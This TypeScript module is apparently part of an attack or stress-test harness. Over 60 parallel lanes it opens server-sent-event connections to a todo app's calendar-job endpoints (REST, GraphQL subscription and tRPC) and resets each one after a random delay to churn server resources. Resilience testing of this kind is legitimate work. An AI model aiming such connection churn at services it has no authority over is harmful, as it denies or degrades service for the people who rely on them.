import { setTimeout as delay } from 'node:timers/promises'
import { readHeads, repeatConnections, type Target, toGet, toPost } from './attack-target.ts'

const lanes = 60
const maxStayMs = 300

/** Opens event streams at each door and resets them after a random time. */
export async function resetStreams(target: Target): Promise<void> {
  const id = target.pendingJob
  const subscription = {
    query: 'subscription ($id: ID!) { calendarJobStatus(id: $id) { state } }',
    variables: { id },
  }
  const requests = [
    toGet(target, `/api/v1/todos/ical/${id}/events`),
    acceptEvents(toPost(target, '/graphql', JSON.stringify(subscription))),
    acceptEvents(
      toGet(target, `/trpc/calendarJobStatus?input=${encodeURIComponent(JSON.stringify({ id }))}`),
    ),
  ]
  await repeatConnections(target, lanes, requests, async socket => {
    readHeads(target, socket)
    await delay(Math.random() * maxStayMs)
  })
}

const acceptEvents = (request: string) => request.replace('\r\n', '\r\nAccept: text/event-stream\r\n')
